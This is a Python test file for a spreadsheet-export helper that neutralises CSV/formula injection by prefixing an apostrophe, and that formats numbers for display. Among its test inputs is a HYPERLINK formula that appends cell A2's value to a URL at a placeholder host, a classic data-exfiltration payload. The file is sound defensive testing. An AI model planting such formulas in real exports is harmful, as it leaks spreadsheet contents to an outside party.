"""The one rule for cells a spreadsheet opens: text that would run as a formula is kept as
text (OWASP's CSV-injection rule); numbers stay numbers."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest

from scenehub.spreadsheets import cell_value, formula_safe
from scenehub.web.downloads import table_download


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?d="&A2,"click me")',
        "+1+2",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ],
)
def test_text_that_starts_like_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["", "智慧交通", "a=b", " =1", "'=1", "12", "http://x.example"])
def test_other_text_is_unchanged(text: str) -> None:
    assert formula_safe(text) == text


def test_numbers_stay_numbers_and_only_text_is_neutralised() -> None:
    assert cell_value(-1) == -1 and cell_value(-2.5) == -2.5
    assert cell_value(Decimal("-1.50")) == Decimal("-1.50")
    assert cell_value(True) is True
    assert cell_value("-1") == "'-1"  # text that looks like a number is still text
    assert cell_value(None) == ""
    assert cell_value(date(2026, 1, 2)) == "2026-01-02"
    assert cell_value(Formula()) == "'=1+1"  # any other value is written as its text


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (725.0, "725"),
        (51854.200000000004, "51854.2"),
        (0.1 + 0.2, "0.3"),
        (-3.0, "-3"),
        (120.1234567, "120.123457"),
        (float("nan"), ""),
        (float("inf"), ""),
    ],
)
def test_floats_are_written_as_people_read_them(raw: float, shown: str) -> None:
    assert str(cell_value(raw)) == shown


def test_a_csv_download_prints_tidy_numbers() -> None:
    body = table_download("t", ["n", "x"], [[725.0, 51854.200000000004]], "csv").body
    assert bytes(body).decode("utf-8-sig").splitlines() == ["n,x", "725,51854.2"]


class Formula:
    def __str__(self) -> str:
        return "=1+1"
